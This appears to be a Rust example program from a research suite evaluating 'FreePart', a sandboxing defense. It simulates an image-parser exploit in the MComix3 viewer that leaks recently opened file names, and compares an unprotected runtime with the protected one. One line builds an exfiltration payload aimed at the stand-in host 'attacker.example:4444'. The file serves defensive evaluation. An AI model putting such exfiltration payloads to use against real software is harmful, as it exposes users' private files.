@@ -1,0 +1,62 @@
+//! The §5.4.2 case study: the MComix3 image viewer leaking its
+//! recently-opened-files list through an image-parser exploit.
+//!
+//! ```text
+//! cargo run --example image_viewer_leak
+//! ```
+
+use freepart_suite::apps::mcomix::{self, ViewerConfig};
+use freepart_suite::attacks::{judge, payloads, AttackGoal};
+use freepart_suite::baselines::{ApiSurface, MonolithicRuntime};
+use freepart_suite::core::{Policy, Runtime};
+use freepart_suite::frameworks::registry::standard_registry;
+
+fn files() -> Vec<String> {
+    vec![
+        "/home/user/medical-scan-2026.png".to_owned(),
+        "/home/user/passport-photo.png".to_owned(),
+        "/home/user/wallpaper.png".to_owned(),
+    ]
+}
+
+fn session(label: &str, surface: &mut dyn ApiSurface, recent_addr: u64) {
+    let cfg = ViewerConfig {
+        files: files(),
+        evil_at: Some((
+            1,
+            payloads::exfiltrate("CVE-2020-10378", recent_addr, 48, "attacker.example:4444"),
+        )),
+    };
+    let r = mcomix::run(surface, &cfg);
+    let log = surface.exploit_log().to_vec();
+    let (kernel, objects, host) = surface.attack_view();
+    let verdict = judge(
+        &AttackGoal::Exfiltrate { marker: b"medical-scan".to_vec() },
+        kernel,
+        objects,
+        host,
+        &log,
+    );
+    println!("--- {label} ---");
+    println!("files displayed: {}/3", r.displayed);
+    println!("recent-file-name exfiltration: {verdict:?}");
+    println!("network egress log: {} sends\n", kernel.network.sends().len());
+}
+
+fn probe_addr(surface: &mut dyn ApiSurface) -> u64 {
+    let r = mcomix::run(surface, &ViewerConfig { files: files(), evil_at: None });
+    surface.objects().meta(r.recent).unwrap().buffer.unwrap().0 .0
+}
+
+fn main() {
+    let addr = probe_addr(&mut MonolithicRuntime::original(standard_registry()));
+    let mut orig = MonolithicRuntime::original(standard_registry());
+    session("unprotected viewer", &mut orig, addr);
+
+    let addr = probe_addr(&mut Runtime::install(standard_registry(), Policy::freepart()));
+    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
+    session("FreePart viewer", &mut fp, addr);
+    println!("two independent defenses fired: the recent list lives in the host");
+    println!("process (the read faulted), and the loading agent's seccomp filter");
+    println!("has no socket/connect/send (the exfiltration path is closed).");
+}
